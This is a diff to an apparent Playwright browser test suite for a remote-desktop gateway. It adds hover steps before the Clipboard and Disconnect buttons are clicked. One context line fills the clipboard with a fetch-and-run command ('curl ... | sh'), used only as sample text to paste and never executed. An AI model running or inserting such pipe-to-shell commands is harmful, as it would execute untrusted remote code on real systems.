@@ -79,6 +79,7 @@ def test_what_was_pasted_in_the_browser_is_found_as_pasted(gate: Gate, browser: 
         gate.add_target(f"Paste {word}", desktop.target)
         page = signed_in(browser, gate, "operator")
         open_target(page, f"Paste {word}")
+        page.get_by_test_id("connection-state").hover()
         page.get_by_role("button", name="Clipboard").click()
         page.get_by_label("To the target").fill(f"curl {word}.example | sh")
         page.get_by_role("button", name="Send to target").click()
@@ -121,6 +122,7 @@ def open_target(page: Page, target: str) -> Locator:
 
 def disconnect(page: Page) -> None:
     """End the session from the browser's side."""
+    page.get_by_test_id("connection-state").hover()  # the bar may have shrunk
     page.get_by_role("button", name="Disconnect").click()
     expect(page.get_by_text("Session ended")).to_be_visible(timeout=15_000)
     page.context.close()
